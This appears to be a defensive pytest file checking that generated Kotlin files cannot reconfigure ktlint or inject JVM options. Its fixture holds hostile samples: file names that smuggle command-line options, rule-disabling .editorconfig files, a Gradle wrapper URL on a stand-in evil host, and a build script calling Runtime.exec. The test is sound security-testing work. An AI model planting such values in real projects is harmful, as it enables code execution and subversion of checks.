"""A generated file cannot configure, extend or load code into the tools that check it.

Red team 'swarm' 8 tried it: ktlint reads every ``.editorconfig`` from a file's directory up (rules off, a
rule set named), a JVM reads ``@argfiles`` and options among its arguments, and a Gradle build script is
code. None reaches a tool: only ``.kt``/``.kts`` files are written for ktlint (a script is parsed, never run:
Gradle is never run), no name may start with ``.``, ``-`` or ``@`` (``path_safety``), the one
``.editorconfig`` is the gateway's, at the root (``root = true``), and every name comes after ``-jar`` and
the jar (the tool's arguments, not the JVM's). A guard: this held on main too."""

from __future__ import annotations

import pytest

from tests.swarm.support.tool_processes import script_tools

pytestmark = [pytest.mark.timeout(60), pytest.mark.usefixtures("tools_reach_tmp_path")]

_GOOD = "app/src/main/java/com/example/A.kt"
_HOSTILE = {
    "app/.editorconfig": "root = true\n[*]\nktlint_standard = disabled\n",
    "app/src/main/java/com/example/.editorconfig": "[*.kt]\nktlint = disabled\n",
    "app/src/main/java/com/example/-J-Dx=1.kt": "class B\n",
    "app/src/main/java/com/example/@args.kt": "class C\n",
    "app/src/main/java/com/example/--ruleset=evil.jar.kt": "class D\n",
    "app/libs/ruleset.jar": "PK\x03\x04 not a jar\n",
    "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=http://evil.example/gradle.zip\n",
    "settings.gradle.kts": 'Runtime.getRuntime().exec("touch /tmp/pwned")\n',
    _GOOD: "package com.example\n\nclass A\n",
}


async def test_no_generated_file_configures_or_loads_code_into_a_tool(tmp_path) -> None:
    said = tmp_path / "said.txt"
    script = (
        "#!/bin/sh\nexec > " + str(said) + " 2>&1\n"
        "find . -type f | sort\necho ARGS \"$@\"\necho CONFIG; cat .editorconfig\nexit 1\n"
    )
    report = await script_tools(tmp_path, script).check_kotlin(_HOSTILE)
    ran = said.read_text()
    files = [line for line in ran.split("ARGS")[0].split() if line.startswith("./")]
    assert sorted(files) == ["./.editorconfig", "./" + _GOOD, "./settings.gradle.kts"], ran
    args = ran.split("ARGS ", 1)[1].split("\n", 1)[0].split()
    # the JVM's options, then -jar and its jar; every name after them, none an option or an argument file
    after = args[args.index("-jar") + 2 :]
    assert after[:2] == ["--reporter=json", "--relative"], args
    assert sorted(after[2:]) == sorted([_GOOD, "settings.gradle.kts"]), args
    assert ran.split("CONFIG", 1)[1].split() == ["root", "=", "true", "[*.{kt,kts}]",
                                                  "ktlint_function_naming_ignore_when_annotated_with", "=",
                                                  "Composable"], ran
    refused = {i.file for i in report.issues if "file name refused" in i.message}
    assert refused == {
        "app/src/main/java/com/example/-J-Dx=1.kt",
        "app/src/main/java/com/example/@args.kt",
        "app/src/main/java/com/example/--ruleset=evil.jar.kt",
    }, report.issues
